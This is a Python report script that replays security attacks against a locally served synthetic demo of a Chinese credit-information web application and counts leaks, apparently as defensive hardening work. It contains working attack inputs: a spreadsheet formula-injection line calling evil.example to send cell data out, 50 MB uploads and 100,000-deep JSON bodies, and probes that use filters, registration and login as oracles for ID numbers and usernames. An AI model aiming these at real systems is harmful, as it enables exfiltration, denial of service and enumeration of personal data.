"""The attacks of issue 11, replayed against a running server (the hardening issue's report).

    .venv/bin/python bench/attack.py [--scale 1] [--keep DIR]

Loads the synthetic demo (``sample generate`` + ``sample load`` + ``daily``) into a fresh SQLite
database, serves it with uvicorn (one worker, the production limits: the rate limits are on),
and plays what an outsider, another department's system and a script tried when the issue was
written. For each attack it prints the requests sent, the answers by status, the 5xx among
them, and what leaked (a hidden value found, an oracle that told two cases apart, a formula
left live, a file left behind); at the end the server's peak RSS beside its idle RSS.

An attack "leaks" when the server's answers let the attacker learn or keep something the rules
deny: the script states, per attack, the condition it checks. It is a report, not a test: the
tests of issue 11 (tests/web/test_public_filters.py, test_register.py, test_request_limits.py,
test_safe_outputs.py, test_need_to_know.py, test_security.py) hold each property on both
databases; this replays them end to end over the demo data, at the volumes of the report.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import time
import uuid
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "bench"))

import httpx  # noqa: E402
from accounts import dept_system_token  # noqa: E402
from hostile import Peak, big_check_body, deep_json, one_line_csv, server, xfd_sheet  # noqa: E402
from sqlalchemy import select  # noqa: E402

from xinyong.accounts.roles import Principal, Role  # noqa: E402
from xinyong.accounts.service import create_account  # noqa: E402
from xinyong.catalog.loader import load_catalog  # noqa: E402
from xinyong.db import make_engine  # noqa: E402
from xinyong.records.models import records  # noqa: E402
from xinyong.settings import Settings  # noqa: E402
from xinyong.subjects.models import subjects  # noqa: E402
from xinyong.subjects.refs import PERSON  # noqa: E402

SAMR = "11410900PY0000022L"  # 濮阳市市场监督管理局: delivers, checks, is no personnel department
_MIB = 1 << 20
_CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


def _settings(workdir: Path) -> Settings:
    # X-Forwarded-For believed from the loopback: the script plays clients at several addresses
    return Settings(
        database_url=f"sqlite:///{workdir}/attack.db",
        data_dir=workdir / "data",
        trusted_proxies="127.0.0.1",
    )


def _env(workdir: Path) -> dict[str, str]:
    return {
        **os.environ,
        "XINYONG_DATABASE_URL": _settings(workdir).database_url,
        "XINYONG_DATA_DIR": str(workdir / "data"),
    }


def prepare(workdir: Path, scale: int) -> None:
    """The demo, as ``make demo`` builds it, in ``workdir``."""
    cli = [str(ROOT / ".venv" / "bin" / "xinyong")]
    env = _env(workdir)
    sample = workdir / "sample"
    for args in (
        ["db", "upgrade"],
        ["sample", "generate", "--output", str(sample), "--scale", str(scale)],
        ["sample", "load", str(sample)],
        ["daily"],
    ):
        subprocess.run([*cli, *args], env=env, check=True, capture_output=True)


def serve(workdir: str, port: int) -> None:
    import uvicorn

    from xinyong.web.app import create_app

    app = create_app(_settings(Path(workdir)))
    uvicorn.run(app, host="127.0.0.1", port=port, log_level="warning", access_log=False)


@dataclass
class Attack:
    """What one attack sent and learnt."""

    title: str
    condition: str  # what counts as a leak
    statuses: Counter[int] = field(default_factory=Counter)
    leaks: list[str] = field(default_factory=list)

    def sent(self, answer: httpx.Response) -> httpx.Response:
        self.statuses[answer.status_code] += 1
        return answer

    def leak(self, what: str) -> None:
        self.leaks.append(what)

    @property
    def requests(self) -> int:
        return sum(self.statuses.values())

    @property
    def errors(self) -> int:
        return sum(n for s, n in self.statuses.items() if s >= 500)


@dataclass
class Target:
    base: str
    token: str  # a 濮阳市市场监督管理局 system's token
    hidden_ids: list[str]  # ID numbers stored in items the public never sees
    person_ids: list[str]  # ID numbers of persons the public may not find
    batch_id: int
    clerk: str  # an existing username
    password: str  # its password
    civil_servants: list[int]  # subjects with 公职人员诚信档案 records


def _targets(workdir: Path, base: str) -> Target:
    settings = _settings(workdir)
    engine = make_engine(settings)
    catalog = load_catalog(settings.catalog_dir)
    by = Principal.cli("attack@localhost")
    with engine.begin() as conn:
        token = dept_system_token(conn, catalog, SAMR, "攻击回放", name="attack")
        clerk = f"clerk-{uuid.uuid4().hex[:8]}"  # an account whose name the login must not betray
        password = f"pw-{uuid.uuid4().hex}"
        create_account(
            conn,
            catalog,
            username=clerk,
            role=Role.CLERK,
            display_name="攻击回放科员",
            password=password,
            dept_uscc=SAMR,
            created_by="attack",
            by=by,
        )
        hidden: list[str] = []
        for (data,) in conn.execute(
            select(records.c.data).where(records.c.dataset.in_(("XZCF", "XZXK"))).limit(5000)
        ):
            for item in ("CF_FR_ZJHM", "XK_FR_ZJHM", "CF_XDR_ZJHM", "XK_XDR_ZJHM"):
                value = (data or {}).get(item)
                if isinstance(value, str) and len(value) == 18 and value not in hidden:
                    hidden.append(value)
        person = select(subjects.c.id_number).where(
            subjects.c.category == PERSON, subjects.c.id_number.is_not(None)
        )
        # civil servants first (their 公职人员诚信档案 is for personnel departments only)
        in_gzry = select(records.c.subject_id).where(records.c.dataset == "GZRY")
        persons = list(conn.execute(person.where(subjects.c.id.in_(in_gzry)).limit(10)).scalars())
        civil_servants = list(conn.execute(in_gzry.distinct().limit(10)).scalars())
        persons += conn.execute(person.limit(10)).scalars().all()
        batch_id = conn.execute(select(records.c.batch_id).limit(1)).scalar_one()
    engine.dispose()
    return Target(base, token, hidden[:20], persons, batch_id, clerk, password, civil_servants)


def _probes(hidden: str) -> list[str]:
    """The revealed head plus one more digit (right and wrong), the hidden middle, the whole."""
    head = hidden[:6]
    return [head + hidden[6], head + str((int(hidden[6]) + 1) % 10), hidden[6:14], hidden]


def hidden_values_through_filters(c: httpx.Client, t: Target) -> Attack:
    a = Attack(
        "hidden ID numbers through public filters and search",
        "a probe built from a hidden number finds anything",
    )
    listings = [
        ("/api/v1/publicity/xzcf", ("type", "dept", "q")),
        ("/api/v1/publicity/xzxk", ("type", "dept", "q")),
        ("/api/v1/lists/black", ("dept", "q")),
        ("/api/v1/lists/red", ("dept", "q")),
    ]
    for hidden in t.hidden_ids:
        for path, names in listings:
            for name in names:
                for probe in _probes(hidden):
                    answer = a.sent(c.get(t.base + path, params={name: probe}))
                    if answer.status_code == 200 and answer.json().get("total", 0) > 0:
                        a.leak(f"{path}?{name}={probe[:6]}…")
                    if answer.status_code == 429:
                        time.sleep(1)
    for number in t.hidden_ids + t.person_ids:
        for probe in (number, number.lower(), f" {number} "):
            answer = a.sent(c.get(t.base + "/api/v1/subjects", params={"q": probe}))
            if answer.status_code == 200 and answer.json().get("items"):
                a.leak(f"/api/v1/subjects?q={number[:6]}…")
            if answer.status_code == 429:
                time.sleep(1)
    return a


def refused_before_working(c: httpx.Client, t: Target, workdir: Path) -> Attack:
    a = Attack(
        "anonymous uploads and receipts (8 × 50 MB, batch ids)",
        "an upload kept, or an anonymous answer that tells an existing batch from none",
    )
    body = b"x" * (50 * _MIB)
    uploads = workdir / "data" / "uploads"
    before = sum(p.stat().st_size for p in uploads.iterdir()) if uploads.exists() else 0
    for _ in range(8):
        try:
            a.sent(
                c.post(
                    t.base + "/api/v1/batches",
                    data={"dataset": "XZCF"},
                    files={"file": ("big.csv", body, "text/csv")},
                )
            )
        except httpx.HTTPError:
            a.statuses[0] += 1  # the server closed the connection without reading the body
    after = sum(p.stat().st_size for p in uploads.iterdir()) if uploads.exists() else 0
    if after > before:
        a.leak(f"{(after - before) / _MIB:.0f} MB of uploads kept")
    seen = set()
    for batch in (t.batch_id, 10**9):
        for suffix in ("", "/rejects"):
            answer = a.sent(c.get(f"{t.base}/api/v1/batches/{batch}{suffix}"))
            seen.add((suffix, answer.status_code, answer.json().get("error", {}).get("code")))
    if len({s[1:] for s in seen if s[0] == ""}) > 1:
        a.leak("an anonymous receipt answer tells existing from missing")
    return a


def hostile_files(c: httpx.Client, t: Target) -> Attack:
    a = Attack(
        "hostile files and bodies (XFD sheet, 60 MB line, 100,000-deep JSON, 50 MB check)",
        "a 5xx, or a delivery that is not refused or rejected row by row",
    )
    auth = {"Authorization": f"Bearer {t.token}"}
    deliveries = [
        ("xfd.xlsx", xfd_sheet()),
        ("one.csv", one_line_csv()),
        ("deep.jsonl", deep_json()),
    ]
    for name, body in deliveries:
        answer = a.sent(
            c.post(
                t.base + "/api/v1/batches",
                data={"dataset": "XZCF"},
                files={"file": (name, body, "application/octet-stream")},
                headers=auth,
            )
        )
        if answer.status_code == 202:
            url = t.base + answer.json()["status_url"]
            for _ in range(6000):
                job = a.sent(c.get(url, headers=auth)).json()
                if job.get("state") in ("done", "failed"):
                    break
                time.sleep(0.1)
    a.sent(
        c.post(
            t.base + "/api/v1/checks",
            content=big_check_body(),
            headers={**auth, "Content-Type": "application/json"},
        )
    )
    nested = b'{"subject_code":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    a.sent(
        c.post(
            t.base + "/api/v1/checks",
            content=nested,
            headers={**auth, "Content-Type": "application/json"},
        )
    )
    return a


def _csrf(c: httpx.Client, base: str, page: str) -> str:
    found = _CSRF.search(c.get(base + page).text)
    return found.group(1) if found else ""


def registration_oracle(t: Target) -> Attack:
    a = Attack(
        "registration as an oracle (stored vs unknown ID numbers, then 40 tries)",
        "a stored number answered differently from an unknown one, or no rate limit",
    )
    with httpx.Client(timeout=60) as c:
        bodies = {}
        for code in (t.person_ids[0], "410902199001011239"):  # the second: synthetic, unstored
            form = {
                "csrf_token": _csrf(c, t.base, "/register"),
                "kind": "person",
                "code": code,
                "name": "某某某",
                "username": f"u{uuid.uuid4().hex[:8]}",
                "password": "a-long-enough-password-1",
            }
            answer = a.sent(c.post(t.base + "/register", data=form))
            text = re.sub(r'value="[^"]*"', "", answer.text)
            bodies[code] = (answer.status_code, len(text) // 50)
        if len(set(bodies.values())) > 1:
            a.leak("the answer differs for a stored number")
        limited = 0
        for n in range(40):
            form = {
                "csrf_token": _csrf(c, t.base, "/register"),
                "kind": "person",
                "code": t.person_ids[n % len(t.person_ids)],
                "name": f"试{n}",
                "username": f"u{uuid.uuid4().hex[:8]}",
                "password": "a-long-enough-password-1",
            }
            limited += a.sent(c.post(t.base + "/register", data=form)).status_code == 429
        if not limited:
            a.leak("40 registrations in a row, none rate-limited")
    return a


def login_oracle(t: Target) -> Attack:
    a = Attack(
        "login as an oracle and as a lock anyone can flip (two addresses)",
        "an existing username answered differently, no back-off for the guessing address, "
        "or its owner kept out from another address",
    )
    guesser = {"X-Forwarded-For": "203.0.113.7"}  # documentation addresses (RFC 5737)
    owner = {"X-Forwarded-For": "198.51.100.20"}
    with httpx.Client(timeout=60) as c:
        answers = set()
        for user in (t.clerk, f"ghost-{uuid.uuid4().hex[:6]}"):
            form = {"csrf_token": _csrf(c, t.base, "/login"), "username": user, "password": "x"}
            answer = a.sent(c.post(t.base + "/login", data=form, headers=guesser))
            answers.add((answer.status_code, "用户名或密码" in answer.text))
        if len(answers) > 1:
            a.leak("an existing username is answered differently")
        locked = False
        for _ in range(12):
            form = {"csrf_token": _csrf(c, t.base, "/login"), "username": t.clerk, "password": "x"}
            answer = a.sent(c.post(t.base + "/login", data=form, headers=guesser))
            locked = locked or "登录尝试过于频繁" in answer.text
        if not locked:
            a.leak("twelve failures in a row, no back-off")
    with httpx.Client(timeout=60) as c:
        form = {
            "csrf_token": _csrf(c, t.base, "/login"),
            "username": t.clerk,
            "password": t.password,
        }
        answer = a.sent(c.post(t.base + "/login", data=form, headers=owner))
        if answer.status_code != 303:
            a.leak("the owner, at another address, is kept out")
    return a


def need_to_know_and_injection(c: httpx.Client, t: Target) -> Attack:
    a = Attack(
        "another department's reads (公职人员诚信档案) and formulas in a bulk check",
        "a GZRY record read by 市场监管局, or a live formula in the bulk-check answer",
    )
    auth = {"Authorization": f"Bearer {t.token}"}
    for sid in t.civil_servants:
        # with and without a 查询事由: a purpose opens nothing need-to-know closes
        for params in (
            {"dataset": "GZRY"},
            {},
            {"tab": "政务"},
            {"dataset": "GZRY", "purpose": "日常监管"},
            {"purpose": "日常监管"},
        ):
            answer = a.sent(
                c.get(f"{t.base}/api/v1/subjects/{sid}/records", params=params, headers=auth)
            )
            if answer.status_code == 200 and any(
                i.get("dataset") == "GZRY" for i in answer.json().get("items", [])
            ):
                a.leak(f"GZRY records of subject {sid}")
    sheet = "名称,统一社会信用代码\n" + '=HYPERLINK("http://evil.example/?"&A1;"点我"),\n'
    answer = a.sent(
        c.post(
            t.base + "/api/v1/checks/bulk",
            data={"matter": "licensing", "name": "名称", "output": "xlsx"},
            files={"file": ("list.csv", sheet.encode(), "text/csv")},
            headers=auth,
        )
    )
    if answer.status_code == 200 and answer.content[:2] == b"PK":
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(answer.content))
        for sheet_ in book.worksheets:
            for row in sheet_.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or (
                        isinstance(cell.value, str) and cell.value.startswith("=")
                    ):
                        a.leak(f"live formula in {sheet_.title}!{cell.coordinate}")
    allowed = a.sent(c.delete(t.base + "/api/v1/health", headers=auth))
    if allowed.status_code == 405 and "allow" not in allowed.headers:
        a.leak("405 without Allow")
    return a


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--serve", default=None, help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, default=0, help=argparse.SUPPRESS)
    parser.add_argument("--scale", type=int, default=1)
    parser.add_argument("--keep", type=Path, help="a folder already prepared by an earlier run")
    args = parser.parse_args()
    if args.serve:
        serve(args.serve, args.port)
        return
    workdir = args.keep or Path(tempfile.mkdtemp(prefix="xinyong-bench-attack-"))
    if not (workdir / "attack.db").exists():
        t0 = time.perf_counter()
        prepare(workdir, args.scale)
        print(f"demo loaded in {time.perf_counter() - t0:.0f} s ({workdir})")
    import psutil

    with (
        server(workdir, Path(__file__).resolve()) as (base, pid),
        httpx.Client(timeout=600) as client,
    ):
        time.sleep(1)
        idle = psutil.Process(pid).memory_info().rss
        target = _targets(workdir, base)
        print(
            f"{len(target.hidden_ids)} hidden ID numbers of legal representatives, "
            f"{len(target.person_ids)} persons' ID numbers to hunt"
        )
        plays: list[Callable[[], Attack]] = [
            lambda: hidden_values_through_filters(client, target),
            lambda: refused_before_working(client, target, workdir),
            lambda: hostile_files(client, target),
            lambda: registration_oracle(target),
            lambda: login_oracle(target),
            lambda: need_to_know_and_injection(client, target),
        ]
        results: list[tuple[Attack, float]] = []
        with Peak(pid) as peak:
            for play in plays:
                t0 = time.perf_counter()
                results.append((play(), time.perf_counter() - t0))
        for attack, took in results:
            answers = ", ".join(f"{s}×{n}" for s, n in sorted(attack.statuses.items()))
            print(f"\n{attack.title}\n  leak if: {attack.condition}")
            print(f"  {attack.requests} requests in {took:.1f} s: {answers}; 5xx: {attack.errors}")
            print(
                f"  leaks: {len(attack.leaks)}" + (f" — {attack.leaks[:5]}" if attack.leaks else "")
            )
        total = sum(a.requests for a, _ in results)
        errors = sum(a.errors for a, _ in results)
        leaks = sum(len(a.leaks) for a, _ in results)
        print(
            f"\nall: {total} requests, {errors} answered 5xx, {leaks} leaks; server RSS idle "
            f"{idle / _MIB:.0f} MB, peak {peak.peak / _MIB:.0f} MB"
        )
    print(json.dumps({"requests": total, "5xx": errors, "leaks": leaks}))


if __name__ == "__main__":
    main()
